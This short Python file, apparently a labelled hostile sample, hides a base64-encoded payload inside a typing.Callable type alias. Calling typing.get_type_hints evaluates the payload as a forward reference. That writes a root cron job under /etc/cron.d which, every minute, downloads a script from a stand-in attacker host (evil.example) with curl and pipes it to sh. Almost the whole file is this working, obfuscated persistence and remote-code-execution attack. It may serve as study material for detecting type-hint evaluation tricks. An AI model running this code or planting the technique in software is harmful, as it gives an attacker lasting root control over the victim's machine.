# harm: writes /etc/cron.d/pwn ; trick: typing.Callable[[decoded], None] alias; the argument list item becomes a forward ref
import base64
import typing

Hook = typing.Callable[[base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode()], None]


def register(h: Hook) -> None:
    pass


try:
    typing.get_type_hints(register)
except Exception:
    pass
